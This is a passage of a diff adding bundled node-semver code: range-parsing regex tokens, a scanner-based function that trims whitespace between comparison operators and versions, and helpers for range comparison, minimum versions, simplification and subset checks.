+createToken('COMPARATOR', `^${src[t.GTLT]}\\s*(${src[t.FULLPLAIN]})$|^$`)
+
+// An expression to strip any whitespace between the gtlt and the thing
+// it modifies, so that `> 1.2.3` ==> `>1.2.3`
+createToken('COMPARATORTRIM', `(\\s*)${src[t.GTLT]
+}\\s*(${src[t.LOOSEPLAIN]}|${src[t.XRANGEPLAIN]})`, true)
+exports.comparatorTrimReplace = '$1$2$3'
+
+// Something like `1.2.3 - 1.2.4`
+// Note that these all use the loose form, because they'll be
+// checked against either the strict or loose comparator form
+// later.
+createToken('HYPHENRANGE', `^\\s*(${src[t.XRANGEPLAIN]})` +
+                   `\\s+-\\s+` +
+                   `(${src[t.XRANGEPLAIN]})` +
+                   `\\s*$`)
+
+createToken('HYPHENRANGELOOSE', `^\\s*(${src[t.XRANGEPLAINLOOSE]})` +
+                        `\\s+-\\s+` +
+                        `(${src[t.XRANGEPLAINLOOSE]})` +
+                        `\\s*$`)
+
+// Star ranges basically just allow anything at all.
+createToken('STAR', '(<|>)?=?\\s*\\*')
+// >=0.0.0 is like a star
+createToken('GTE0', '^\\s*>=\\s*0\\.0\\.0\\s*$')
+createToken('GTE0PRE', '^\\s*>=\\s*0\\.0\\.0-0\\s*$')
+
+
+/***/ }),
+
+/***/ 9737:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+// @ts-check
+
+
+// Reproduce safeRe[COMPARATORTRIM] replacement boundaries, not version
+// validation. Each end-index finder returns an exclusive end, or its start
+// on no match.
+// Positions count from zero. An end of 3 means characters 0, 1, and 2 were read;
+// range.slice(start, end) gives the matched text, not a converted number.
+const {
+  MAX_LENGTH,
+  MAX_SAFE_BUILD_LENGTH,
+  WHITESPACE_CHARACTERS,
+} = __nccwpck_require__(5101)
+
+/**
+ * Remembers the last two rows of digits so their characters need not be reread.
+ * Positions start at -1 until a row has been found.
+ *
+ * @typedef {object} DigitRunCache
+ * @property {number} start The first character of the most recently found row.
+ * @property {number} end The position after that row's last character.
+ * @property {number} previousStart The first character of the previous row.
+ * @property {number} previousEnd The position after the previous row.
+ */
+
+// One entry per UTF-16 code unit keeps membership checks constant-time.
+const whitespace = new Uint8Array(0x10000)
+for (const char of WHITESPACE_CHARACTERS) {
+  whitespace[char.charCodeAt(0)] = 1
+}
+
+/**
+ * Checks whether a character is whitespace, like a space, tab, or newline.
+ * Looking past the end of the string returns false.
+ *
+ * @param {string|undefined} char One character, or undefined past the string's end.
+ * @returns {boolean} Whether the character is whitespace.
+ * @example isWhitespace(' ') // true
+ * @example isWhitespace('1') // false
+ */
+const isWhitespace = char =>
+  char !== undefined && whitespace[char.charCodeAt(0)] === 1
+
+/**
+ * Checks for v, =, or whitespace before the version number.
+ * These are historical version prefixes, not range operators:
+ * < and > are handled separately, as are tilde and caret ranges.
+ *
+ * @param {string|undefined} char One character to check.
+ * @returns {boolean} Whether the character can belong to a version prefix.
+ * @example isVersionPrefix('=') // true
+ * @example isVersionPrefix('>') // false
+ */
+const isVersionPrefix = char =>
+  char === 'v' ||
+  char === '=' ||
+  isWhitespace(char)
+
+/**
+ * Checks whether a character is one of the digits 0 through 9.
+ *
+ * @param {string|undefined} char One character to check.
+ * @returns {boolean} Whether the character is an ASCII digit.
+ * @example isDigit('7') // true
+ * @example isDigit('.') // false
+ */
+const isDigit = char => char !== undefined && char >= '0' && char <= '9'
+
+/**
+ * Checks whether a character is an English letter, uppercase or lowercase.
+ *
+ * @param {string|undefined} char One character to check.
+ * @returns {boolean} Whether the character is an ASCII letter.
+ * @example isLetter('b') // true
+ * @example isLetter('7') // false
+ */
+const isLetter = char =>
+  char !== undefined && (
+    (char >= 'a' && char <= 'z') ||
+    (char >= 'A' && char <= 'Z')
+  )
+
+/**
+ * Checks for a letter, digit, or hyphen: the characters allowed inside
+ * prerelease and build names such as beta-1.
+ *
+ * @param {string|undefined} char One character to check.
+ * @returns {boolean} Whether the character can be part of an identifier.
+ * @example isIdentifierCharacter('-') // true
+ * @example isIdentifierCharacter('.') // false; dots separate identifiers
+ */
+const isIdentifierCharacter = char => isDigit(char) || isLetter(char) || char === '-'
+
+/**
+ * Checks whether a version component can begin here: with a digit or
+ * a wildcard such as x, X, or *.
+ *
+ * @param {string|undefined} char One character to check.
+ * @returns {boolean} Whether a number or wildcard can start with this character.
+ * @example isVersionStart('x') // true
+ * @example isVersionStart('v') // false; v belongs to the prefix
+ */
+const isVersionStart = char =>
+  isDigit(char) ||
+  char === 'x' ||
+  char === 'X' ||
+  char === '*'
+
+/**
+ * Finds the end of a row of digits, but returns no more than limit digits.
+ * Remembers the last two rows so looking at them again does not reread them.
+ *
+ * @param {string} range The text to read; it is not changed.
+ * @param {number} start The position of the first character to check.
+ * @param {number} limit The most digit characters the returned match can include.
+ * @param {DigitRunCache} digitRuns Shared cache of digit-run positions, updated in place.
+ * @returns {number} The position after the matched digits, or start if none match.
+ * @example findDigitsEndIndex('123abc', 0, 10, digitRuns) // 3, pointing at a
+ * @example findDigitsEndIndex('123abc', 0, 2, digitRuns) // 2, pointing at the unread 3
+ */
+const findDigitsEndIndex = (range, start, limit, digitRuns) => {
+  if (!isDigit(range[start])) {
+    return start
+  }
+  if (start >= digitRuns.start && start < digitRuns.end) {
+    return Math.min(start + limit, digitRuns.end)
+  }
+  if (start >= digitRuns.previousStart && start < digitRuns.previousEnd) {
+    return Math.min(start + limit, digitRuns.previousEnd)
+  }
+  let end = start + 1
+  while (isDigit(range[end])) {
+    end++
+  }
+  // A failed full version can rewind from its second run to its first.
+  digitRuns.previousStart = digitRuns.start
+  digitRuns.previousEnd = digitRuns.end
+  digitRuns.start = start
+  digitRuns.end = end
+  return Math.min(start + limit, end)
+}
+
+/**
+ * Reads a number using the old regex's length and leading-zero rules.
+ * Strict mode reads just the first zero in 012; loose mode can read all three.
+ *
+ * @param {string} range The text to read; it is not changed.
+ * @param {number} start The position where the number should begin.
+ * @param {boolean} loose Whether to allow leading zeros.
+ * @param {DigitRunCache} digitRuns Shared digit-run cache, updated as needed.
+ * @returns {number} The position after the matched digits, not their numeric value.
+ * @example findVersionNumberEndIndex('012', 0, false, digitRuns) // 1
+ * @example findVersionNumberEndIndex('012', 0, true, digitRuns) // 3
+ */
+const findVersionNumberEndIndex = (range, start, loose, digitRuns) => {
+  if (!loose && range[start] === '0') {
+    return start + 1
+  }
+  // Strict syntax allows an initial nonzero digit plus MAX_LENGTH digits.
+  return findDigitsEndIndex(range, start, loose ? MAX_LENGTH : MAX_LENGTH + 1, digitRuns)
+}
+
+/**
+ * Reads one piece of a prerelease name, such as beta or 1 in beta.1.
+ * Tries the letter-or-hyphen form first, then the number-only form.
+ *
+ * @param {string} range The text to read; it is not changed.
+ * @param {number} start The position where the identifier should begin.
+ * @param {boolean} loose Whether numeric identifiers may have leading zeros.
+ * @param {DigitRunCache} digitRuns Shared digit-run cache, updated as needed.
+ * @returns {number} The position after the identifier, or start if none matches.
+ * @example findPrereleaseIdentifierEndIndex('beta.1', 0, false, digitRuns) // 4, at the dot
+ * @example findPrereleaseIdentifierEndIndex('001beta', 0, false, digitRuns) // 7
+ */
+const findPrereleaseIdentifierEndIndex = (range, start, loose, digitRuns) => {
+  const digitsEnd = findDigitsEndIndex(range, start, MAX_LENGTH, digitRuns)
+  // The legacy regex tries a nonnumeric identifier before a numeric one.
+  if (isLetter(range[digitsEnd]) || range[digitsEnd] === '-') {
+    let end = digitsEnd + 1
+    const limit = end + MAX_SAFE_BUILD_LENGTH
+    while (end < limit && isIdentifierCharacter(range[end])) {
+      end++
+    }
+    return end
+  }
+  return findVersionNumberEndIndex(range, start, loose, digitRuns)
+}
+
+/**
+ * Reads a prerelease suffix such as -beta.1, one dot-separated piece at a time.
+ * Loose mode also allows the name without its opening hyphen.
+ *
+ * @param {string} range The text to read; it is not changed.
+ * @param {number} start The position where the suffix should begin, including -.
+ * @param {boolean} loose Whether the opening hyphen is optional and zeros allowed.
+ * @param {DigitRunCache} digitRuns Shared digit-run cache, updated as needed.
+ * @returns {number} The position after the matched suffix, or start if absent.
+ * @example findPrereleaseEndIndex('-beta.1+sha', 0, false, digitRuns) // 7, at the plus
+ * @example findPrereleaseEndIndex('beta', 0, false, digitRuns) // 0; no opening hyphen
+ */
+const findPrereleaseEndIndex = (range, start, loose, digitRuns) => {
+  const hyphen = range[start] === '-'
+  if (!loose && !hyphen) {
+    return start
+  }
+  const identifierStart = start + (hyphen ? 1 : 0)
+  let end = findPrereleaseIdentifierEndIndex(range, identifierStart, loose, digitRuns)
+  if (end === identifierStart) {
+    if (!loose || !hyphen) {
+      return start
+    }
+    // In loose syntax, a lone hyphen can itself be the identifier.
+    end = findPrereleaseIdentifierEndIndex(range, start, loose, digitRuns)
+  }
+  while (range[end] === '.') {
+    const next = findPrereleaseIdentifierEndIndex(range, end + 1, loose, digitRuns)
+    if (next === end + 1) {
+      break
+    }
+    end = next
+  }
+  return end
+}
+
+/**
+ * Reads one build-name piece, such as sha or 123 in +sha.123.
+ * Stops at a disallowed character or the old regex's length limit.
+ *
+ * @param {string} range The text to read; it is not changed.
+ * @param {number} start The position where the identifier should begin.
+ * @returns {number} The position after the identifier, or start if none matches.
+ * @example findBuildIdentifierEndIndex('sha.123', 0) // 3, at the dot
+ * @example findBuildIdentifierEndIndex('001', 0) // 3; leading zeros are allowed
+ */
+const findBuildIdentifierEndIndex = (range, start) => {
+  let end = start
+  while (end - start < MAX_SAFE_BUILD_LENGTH && isIdentifierCharacter(range[end])) {
+    end++
+  }
+  return end
+}
+
+/**
+ * Reads optional build metadata such as +sha.123.
+ * Leaves the position unchanged if there is no plus sign followed by a name.
+ *
+ * @param {string} range The text to read; it is not changed.
+ * @param {number} start The position where the opening + should be.
+ * @returns {number} The position after the matched metadata, or start if absent.
+ * @example findBuildEndIndex('+sha.123 <2', 0) // 8, at the space
+ * @example findBuildEndIndex('+', 0) // 0; a plus sign alone is not a match
+ */
+const findBuildEndIndex = (range, start) => {
+  if (range[start] !== '+') {
+    return start
+  }
+  let end = findBuildIdentifierEndIndex(range, start + 1)
+  if (end === start + 1) {
+    return start
+  }
+  while (range[end] === '.') {
+    const next = findBuildIdentifierEndIndex(range, end + 1)
+    if (next === end + 1) {
+      break
+    }
+    end = next
+  }
+  return end
+}
+
+/**
+ * Reads three numbers separated by dots, then any prerelease and build suffixes.
+ * Uses loose rules, so forms such as 01.02.03beta can match here.
+ *
+ * @param {string} range The text to read; it is not changed.
+ * @param {number} start The position of the first number, after any prefix.
+ * @param {DigitRunCache} digitRuns Shared digit-run cache, updated as needed.
+ * @returns {number} The position after the version match, or start if none matches.
+ * @example findLooseFullVersionEndIndex('1.2.3-beta+sha <2', 0, digitRuns) // 14
+ * @example findLooseFullVersionEndIndex('1.2', 0, digitRuns) // 0; needs three numbers
+ */
+const findLooseFullVersionEndIndex = (range, start, digitRuns) => {
+  let end = start
+  for (let component = 0; component < 3; component++) {
+    const next = findVersionNumberEndIndex(range, end, true, digitRuns)
+    if (next === end) {
+      return start
+    }
+    end = next
+    if (component < 2) {
+      if (range[end] !== '.') {
+        return start
+      }
+      end++
+    }
+  }
+  const prereleaseEnd = findPrereleaseEndIndex(range, end, true, digitRuns)
+  return findBuildEndIndex(range, prereleaseEnd)
+}
+
+/**
+ * Reads one component of a partial or wildcard version, such as 2 or x in 2.x.
+ * Numbers use strict leading-zero rules; wildcards take up one character.
+ *
+ * @param {string} range The text to read; it is not changed.
+ * @param {number} start The position where the component should begin.
+ * @param {DigitRunCache} digitRuns Shared digit-run cache, updated as needed.
+ * @returns {number} The position after the component, or start if none matches.
+ * @example findPartialVersionComponentEndIndex('2.x', 0, digitRuns) // 1, at the dot
+ * @example findPartialVersionComponentEndIndex('2.x', 2, digitRuns) // 3, after x
+ */
+const findPartialVersionComponentEndIndex = (range, start, digitRuns) => {
+  if (isDigit(range[start])) {
+    return findVersionNumberEndIndex(range, start, false, digitRuns)
+  }
+  return isVersionStart(range[start]) ? start + 1 : start
+}
+
+/**
+ * Reads up to three components, allowing forms such as 1, 1.2, or 1.x.
+ * After the third component, also reads any strict prerelease and build suffixes.
+ *
+ * @param {string} range The text to read; it is not changed.
+ * @param {number} start The position of a number or wildcard, after any prefix.
+ * @param {DigitRunCache} digitRuns Shared digit-run cache, updated as needed.
+ * @returns {number} The position after the matched version text.
+ * @example findPartialVersionEndIndex('1.x <2', 0, digitRuns) // 3, at the space
+ * @example findPartialVersionEndIndex('1.', 0, digitRuns) // 1; the trailing dot is unread
+ */
+const findPartialVersionEndIndex = (range, start, digitRuns) => {
+  let end = findPartialVersionComponentEndIndex(range, start, digitRuns)
+  for (let component = 0; component < 2; component++) {
+    if (range[end] !== '.') {
+      return end
+    }
+    const next = findPartialVersionComponentEndIndex(range, end + 1, digitRuns)
+    if (next === end + 1) {
+      return end
+    }
+    end = next
+  }
+  const prereleaseEnd = findPrereleaseEndIndex(range, end, false, digitRuns)
+  return findBuildEndIndex(range, prereleaseEnd)
+}
+
+/**
+ * Finds where a version match ends, without deciding whether the range is valid.
+ * Tries a loose full version first, then a partial or wildcard version, just
+ * like the old regex's LOOSEPLAIN and XRANGEPLAIN alternatives.
+ *
+ * @param {string} range The text to read; it is not changed.
+ * @param {number} start The position of a number or wildcard, after any prefix.
+ * @param {DigitRunCache} digitRuns Shared digit-run cache, updated as needed.
+ * @returns {number} The position where scanning the next candidate can resume.
+ * @example findVersionEndIndex('1.2.3 <2', 0, digitRuns) // 5, at the space
+ * @example findVersionEndIndex('1.x <2', 0, digitRuns) // 3, at the space
+ */
+const findVersionEndIndex = (range, start, digitRuns) => {
+  const fullVersionEnd = findLooseFullVersionEndIndex(range, start, digitRuns)
+  return fullVersionEnd !== start
+    ? fullVersionEnd
+    : findPartialVersionEndIndex(range, start, digitRuns)
+}
+
+/**
+ * Finds the one whitespace character the old replacement would remove.
+ * Keeps leading whitespace, skips an optional operator, and checks immediately
+ * after it. Returns -1 if there is nothing to remove.
+ *
+ * @param {string} range The text containing a candidate already found by the caller.
+ * @param {number} matchStart The candidate's position, including leading whitespace.
+ * @returns {number} The position of the removable whitespace, or -1 if absent.
+ * @example findRemovableWhitespaceIndex(' > 1', 0) // 2; keep the space at position 0
+ * @example findRemovableWhitespaceIndex('>1', 0) // -1
+ */
+const findRemovableWhitespaceIndex = (range, matchStart) => {
+  let position = matchStart
+  if (isWhitespace(range[position])) {
+    position++
+  }
+  if (range[position] === '<' || range[position] === '>') {
+    position++
+  }
+  if (range[position] === '=') {
+    position++
+  }
+  return isWhitespace(range[position]) ? position : -1
+}
+
+/**
+ * Joins an operator to its version, turning > 1.2.3 into >1.2.3.
+ * Copies everything else according to the old regex's matching rules.
+ * Moves forward through prefixes and whole versions to avoid repeatedly
+ * searching the same characters on long inputs.
+ *
+ * @param {string} range The range text to process; the original string is unchanged.
+ * @returns {string} The range with matched operator whitespace removed.
+ * @example trimComparatorWhitespace('> 1.2.3 < 2') // '>1.2.3 <2'
+ * @example trimComparatorWhitespace('> invalid') // '> invalid'
+ */
+const trimComparatorWhitespace = range => {
+  let result = ''
+  let copyFrom = 0
+  let cursor = 0
+  const digitRuns = { start: -1, end: -1, previousStart: -1, previousEnd: -1 }
+
+  while (cursor < range.length) {
+    const matchStart = cursor
+    if (range[cursor] === '<' || range[cursor] === '>') {
+      cursor++
+    } else if (!isVersionPrefix(range[cursor]) && !isVersionStart(range[cursor])) {
+      cursor++
+      continue
+    }
+
+    // Consume a v/=/whitespace run once, even when no version follows it.
+    while (cursor < range.length && isVersionPrefix(range[cursor])) {
+      cursor++
+    }
+    if (!isVersionStart(range[cursor])) {
+      continue
+    }
+
+    const whitespacePosition = findRemovableWhitespaceIndex(range, matchStart)
+    if (whitespacePosition !== -1) {
+      result += range.slice(copyFrom, whitespacePosition)
+      copyFrom = whitespacePosition + 1
+    }
+
+    // Skip the entire match, so a prerelease's trailing v cannot be
+    // reconsidered as the prefix of another version.
+    cursor = findVersionEndIndex(range, cursor, digitRuns)
+  }
+
+  return result + range.slice(copyFrom)
+}
+
+module.exports = trimComparatorWhitespace
+
+
+/***/ }),
+
+/***/ 2276:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+// Determine if version is greater than all the versions possible in the range.
+const outside = __nccwpck_require__(280)
+const gtr = (version, range, options) => outside(version, range, '>', options)
+module.exports = gtr
+
+
+/***/ }),
+
+/***/ 3465:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const Range = __nccwpck_require__(6782)
+const intersects = (r1, r2, options) => {
+  r1 = new Range(r1, options)
+  r2 = new Range(r2, options)
+  return r1.intersects(r2, options)
+}
+module.exports = intersects
+
+
+/***/ }),
+
+/***/ 5213:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const outside = __nccwpck_require__(280)
+// Determine if version is less than all the versions possible in the range
+const ltr = (version, range, options) => outside(version, range, '<', options)
+module.exports = ltr
+
+
+/***/ }),
+
+/***/ 3193:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SemVer = __nccwpck_require__(7163)
+const Range = __nccwpck_require__(6782)
+
+const maxSatisfying = (versions, range, options) => {
+  let max = null
+  let maxSV = null
+  let rangeObj = null
+  try {
+    rangeObj = new Range(range, options)
+  } catch (er) {
+    return null
+  }
+  versions.forEach((v) => {
+    if (rangeObj.test(v)) {
+      // satisfies(v, range, options)
+      if (!max || maxSV.compare(v) === -1) {
+        // compare(max, v, true)
+        max = v
+        maxSV = new SemVer(max, options)
+      }
+    }
+  })
+  return max
+}
+module.exports = maxSatisfying
+
+
+/***/ }),
+
+/***/ 8595:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SemVer = __nccwpck_require__(7163)
+const Range = __nccwpck_require__(6782)
+const minSatisfying = (versions, range, options) => {
+  let min = null
+  let minSV = null
+  let rangeObj = null
+  try {
+    rangeObj = new Range(range, options)
+  } catch (er) {
+    return null
+  }
+  versions.forEach((v) => {
+    if (rangeObj.test(v)) {
+      // satisfies(v, range, options)
+      if (!min || minSV.compare(v) === 1) {
+        // compare(min, v, true)
+        min = v
+        minSV = new SemVer(min, options)
+      }
+    }
+  })
+  return min
+}
+module.exports = minSatisfying
+
+
+/***/ }),
+
+/***/ 1866:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SemVer = __nccwpck_require__(7163)
+const Range = __nccwpck_require__(6782)
+const gt = __nccwpck_require__(6599)
+
+const minVersion = (range, loose) => {
+  range = new Range(range, loose)
+
+  let minver = new SemVer('0.0.0')
+  if (range.test(minver)) {
+    return minver
+  }
+
+  minver = new SemVer('0.0.0-0')
+  if (range.test(minver)) {
+    return minver
+  }
+
+  minver = null
+  for (let i = 0; i < range.set.length; ++i) {
+    const comparators = range.set[i]
+
+    let setMin = null
+    comparators.forEach((comparator) => {
+      // Clone to avoid manipulating the comparator's semver object.
+      const compver = new SemVer(comparator.semver.version)
+      switch (comparator.operator) {
+        case '>':
+          if (compver.prerelease.length === 0) {
+            compver.patch++
+          } else {
+            compver.prerelease.push(0)
+          }
+          compver.raw = compver.format()
+          /* fallthrough */
+        case '':
+        case '>=':
+          if (!setMin || gt(compver, setMin)) {
+            setMin = compver
+          }
+          break
+        case '<':
+        case '<=':
+          /* Ignore maximum versions */
+          break
+        /* istanbul ignore next */
+        default:
+          throw new Error(`Unexpected operation: ${comparator.operator}`)
+      }
+    })
+    if (setMin && (!minver || gt(minver, setMin))) {
+      minver = setMin
+    }
+  }
+
+  if (minver && range.test(minver)) {
+    return minver
+  }
+
+  return null
+}
+module.exports = minVersion
+
+
+/***/ }),
+
+/***/ 280:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SemVer = __nccwpck_require__(7163)
+const Comparator = __nccwpck_require__(9379)
+const { ANY } = Comparator
+const Range = __nccwpck_require__(6782)
+const satisfies = __nccwpck_require__(8011)
+const gt = __nccwpck_require__(6599)
+const lt = __nccwpck_require__(3872)
+const lte = __nccwpck_require__(6717)
+const gte = __nccwpck_require__(1236)
+
+const outside = (version, range, hilo, options) => {
+  version = new SemVer(version, options)
+  range = new Range(range, options)
+
+  let gtfn, ltefn, ltfn, comp, ecomp
+  switch (hilo) {
+    case '>':
+      gtfn = gt
+      ltefn = lte
+      ltfn = lt
+      comp = '>'
+      ecomp = '>='
+      break
+    case '<':
+      gtfn = lt
+      ltefn = gte
+      ltfn = gt
+      comp = '<'
+      ecomp = '<='
+      break
+    default:
+      throw new TypeError('Must provide a hilo val of "<" or ">"')
+  }
+
+  // If it satisfies the range it is not outside
+  if (satisfies(version, range, options)) {
+    return false
+  }
+
+  // From now on, variable terms are as if we're in "gtr" mode.
+  // but note that everything is flipped for the "ltr" function.
+
+  for (let i = 0; i < range.set.length; ++i) {
+    const comparators = range.set[i]
+
+    let high = null
+    let low = null
+
+    comparators.forEach((comparator) => {
+      if (comparator.semver === ANY) {
+        comparator = new Comparator('>=0.0.0')
+      }
+      high = high || comparator
+      low = low || comparator
+      if (gtfn(comparator.semver, high.semver, options)) {
+        high = comparator
+      } else if (ltfn(comparator.semver, low.semver, options)) {
+        low = comparator
+      }
+    })
+
+    // If the edge version comparator has a operator then our version
+    // isn't outside it
+    if (high.operator === comp || high.operator === ecomp) {
+      return false
+    }
+
+    // If the lowest version comparator has an operator and our version
+    // is less than it then it isn't higher than the range
+    if ((!low.operator || low.operator === comp) &&
+        ltefn(version, low.semver)) {
+      return false
+    } else if (low.operator === ecomp && ltfn(version, low.semver)) {
+      return false
+    }
+  }
+  return true
+}
+
+module.exports = outside
+
+
+/***/ }),
+
+/***/ 2028:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+// given a set of versions and a range, create a "simplified" range
+// that includes the same versions that the original range does
+// If the original range is shorter than the simplified one, return that.
+const satisfies = __nccwpck_require__(8011)
+const compare = __nccwpck_require__(8469)
+module.exports = (versions, range, options) => {
+  const set = []
+  let first = null
+  let prev = null
+  const v = versions.sort((a, b) => compare(a, b, options))
+  for (const version of v) {
+    const included = satisfies(version, range, options)
+    if (included) {
+      prev = version
+      if (!first) {
+        first = version
+      }
+    } else {
+      if (prev) {
+        set.push([first, prev])
+      }
+      prev = null
+      first = null
+    }
+  }
+  if (first) {
+    set.push([first, null])
+  }
+
+  const ranges = []
+  for (const [min, max] of set) {
+    if (min === max) {
+      ranges.push(min)
+    } else if (!max && min === v[0]) {
+      ranges.push('*')
+    } else if (!max) {
+      ranges.push(`>=${min}`)
+    } else if (min === v[0]) {
+      ranges.push(`<=${max}`)
+    } else {
+      ranges.push(`${min} - ${max}`)
+    }
+  }
+  const simplified = ranges.join(' || ')
+  const original = typeof range.raw === 'string' ? range.raw : String(range)
+  return simplified.length < original.length ? simplified : range
+}
+
+
+/***/ }),
+
+/***/ 1489:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const Range = __nccwpck_require__(6782)
+const Comparator = __nccwpck_require__(9379)
+const { ANY } = Comparator
+const satisfies = __nccwpck_require__(8011)
+const compare = __nccwpck_require__(8469)
+
+// Complex range `r1 || r2 || ...` is a subset of `R1 || R2 || ...` iff:
+// - Every simple range `r1, r2, ...` is a null set, OR
+// - Every simple range `r1, r2, ...` which is not a null set is a subset of
+//   some `R1, R2, ...`
+//
+// Simple range `c1 c2 ...` is a subset of simple range `C1 C2 ...` iff:
+// - If c is only the ANY comparator
+//   - If C is only the ANY comparator, return true
+//   - Else if in prerelease mode, return false
+//   - else replace c with `[>=0.0.0]`
+// - If C is only the ANY comparator
+//   - if in prerelease mode, return true
+//   - else replace C with `[>=0.0.0]`
+// - Let EQ be the set of = comparators in c
+// - If EQ is more than one, return true (null set)
+// - Let GT be the highest > or >= comparator in c
+// - Let LT be the lowest < or <= comparator in c
+// - If GT and LT, and GT.semver > LT.semver, return true (null set)
+// - If any C is a = range, and GT or LT are set, return false
+// - If EQ
+//   - If GT, and EQ does not satisfy GT, return true (null set)
+//   - If LT, and EQ does not satisfy LT, return true (null set)
+//   - If EQ satisfies every C, return true
+//   - Else return false
+// - If GT
+//   - If GT.semver is lower than any > or >= comp in C, return false
+//   - If GT is >=, and GT.semver does not satisfy every C, return false
+//   - If GT.semver has a prerelease, and not in prerelease mode
+//     - If no C has a prerelease and the GT.semver tuple, return false
+// - If LT
+//   - If LT.semver is greater than any < or <= comp in C, return false
+//   - If LT is <=, and LT.semver does not satisfy every C, return false
+//   - If LT.semver has a prerelease, and not in prerelease mode
+//     - If no C has a prerelease and the LT.semver tuple, return false
+// - Else return true
+
+const subset = (sub, dom, options = {}) => {
+  if (sub === dom) {
+    return true
+  }
+
+  sub = new Range(sub, options)
+  dom = new Range(dom, options)
+  let sawNonNull = false
+
+  OUTER: for (const simpleSub of sub.set) {
+    for (const simpleDom of dom.set) {
+      const isSub = simpleSubset(simpleSub, simpleDom, options)
+      sawNonNull = sawNonNull || isSub !== null
+      if (isSub) {
+        continue OUTER
+      }
+    }
+    // the null set is a subset of everything, but null simple ranges in
+    // a complex range should be ignored.  so if we saw a non-null range,
+    // then we know this isn't a subset, but if EVERY simple range was null,
+    // then it is a subset.
+    if (sawNonNull) {
+      return false
+    }
+  }
+  return true
+}
+
+const minimumVersionWithPreRelease = [new Comparator('>=0.0.0-0')]
+const minimumVersion = [new Comparator('>=0.0.0')]
+
+const simpleSubset = (sub, dom, options) => {
+  if (sub === dom) {
+    return true
+  }
+
+  if (sub.length === 1 && sub[0].semver === ANY) {
+    if (dom.length === 1 && dom[0].semver === ANY) {
+      return true
+    } else if (options.includePrerelease) {
+      sub = minimumVersionWithPreRelease
+    } else {
+      sub = minimumVersion
+    }
+  }
+
+  if (dom.length === 1 && dom[0].semver === ANY) {
+    if (options.includePrerelease) {
+      return true
+    } else {
+      dom = minimumVersion
+    }
+  }
+
+  const eqSet = new Set()
+  let gt, lt
+  for (const c of sub) {
+    if (c.operator === '>' || c.operator === '>=') {
+      gt = higherGT(gt, c, options)
+    } else if (c.operator === '<' || c.operator === '<=') {
+      lt = lowerLT(lt, c, options)
+    } else {
+      eqSet.add(c.semver)
+    }
+  }
+
+  if (eqSet.size > 1) {
+    return null
+  }
+
+  let gtltComp
+  if (gt && lt) {
+    gtltComp = compare(gt.semver, lt.semver, options)
+    if (gtltComp > 0) {
+      return null
+    } else if (gtltComp === 0 && (gt.operator !== '>=' || lt.operator !== '<=')) {
+      return null
+    }
+  }
+
+  // will iterate one or zero times
+  for (const eq of eqSet) {
+    if (gt && !satisfies(eq, String(gt), options)) {
+      return null
+    }
+
+    if (lt && !satisfies(eq, String(lt), options)) {
+      return null
+    }
+
+    for (const c of dom) {
+      if (!satisfies(eq, String(c), options)) {
+        return false
+      }
+    }
+
+    return true
+  }
+
+  let higher, lower
+  let hasDomLT, hasDomGT
+  // if the subset has a prerelease, we need a comparator in the superset
+  // with the same tuple and a prerelease, or it's not a subset
+  let needDomLTPre = lt &&
+    !options.includePrerelease &&
+    lt.semver.prerelease.length ? lt.semver : false
+  let needDomGTPre = gt &&
+    !options.includePrerelease &&
+    gt.semver.prerelease.length ? gt.semver : false
+  // exception: <1.2.3-0 is the same as <1.2.3
+  if (needDomLTPre && needDomLTPre.prerelease.length === 1 &&
+      lt.operator === '<' && needDomLTPre.prerelease[0] === 0) {
+    needDomLTPre = false
+  }
+
+  for (const c of dom) {
+    hasDomGT = hasDomGT || c.operator === '>' || c.operator === '>='
+    hasDomLT = hasDomLT || c.operator === '<' || c.operator === '<='
+    if (gt) {
+      if (needDomGTPre) {
+        if (c.semver.prerelease && c.semver.prerelease.length &&
+            c.semver.major === needDomGTPre.major &&
+            c.semver.minor === needDomGTPre.minor &&
+            c.semver.patch === needDomGTPre.patch) {
+          needDomGTPre = false
+        }
+      }
+      if (c.operator === '>' || c.operator === '>=') {
+        higher = higherGT(gt, c, options)
+        if (higher === c && higher !== gt) {
+          return false
+        }
+      } else if (gt.operator === '>=' && !c.test(gt.semver)) {
+        return false
+      }
+    }
+    if (lt) {
+      if (needDomLTPre) {
+        if (c.semver.prerelease && c.semver.prerelease.length &&
+            c.semver.major === needDomLTPre.major &&
+            c.semver.minor === needDomLTPre.minor &&
+            c.semver.patch === needDomLTPre.patch) {
+          needDomLTPre = false
+        }
+      }
+      if (c.operator === '<' || c.operator === '<=') {
+        lower = lowerLT(lt, c, options)
+        if (lower === c && lower !== lt) {
+          return false
+        }
+      } else if (lt.operator === '<=' && !c.test(lt.semver)) {
+        return false
+      }
+    }
+    if (!c.operator && (lt || gt) && gtltComp !== 0) {
+      return false
+    }
+  }
+
+  // if there was a < or >, and nothing in the dom, then must be false
+  // UNLESS it was limited by another range in the other direction.
+  // Eg, >1.0.0 <1.0.1 is still a subset of <2.0.0
+  if (gt && hasDomLT && !lt && gtltComp !== 0) {
+    return false
+  }
+
+  if (lt && hasDomGT && !gt && gtltComp !== 0) {
+    return false
+  }
+
+  // we needed a prerelease range in a specific tuple, but didn't get one
+  // then this isn't a subset.  eg >=1.2.3-pre is not a subset of >=1.0.0,
+  // because it includes prereleases in the 1.2.3 tuple
+  if (needDomGTPre || needDomLTPre) {
+    return false
+  }
+
+  return true
+}
+
+// >=1.2.3 is lower than >1.2.3
+const higherGT = (a, b, options) => {
+  if (!a) {
+    return b
+  }
+  const comp = compare(a.semver, b.semver, options)
+  return comp > 0 ? a
+    : comp < 0 ? b
+    : b.operator === '>' && a.operator === '>=' ? b
+    : a
+}
+
+// <=1.2.3 is higher than <1.2.3
+const lowerLT = (a, b, options) => {
+  if (!a) {
+    return b
+  }
+  const comp = compare(a.semver, b.semver, options)
+  return comp < 0 ? a
+    : comp > 0 ? b
+    : b.operator === '<' && a.operator === '<=' ? b
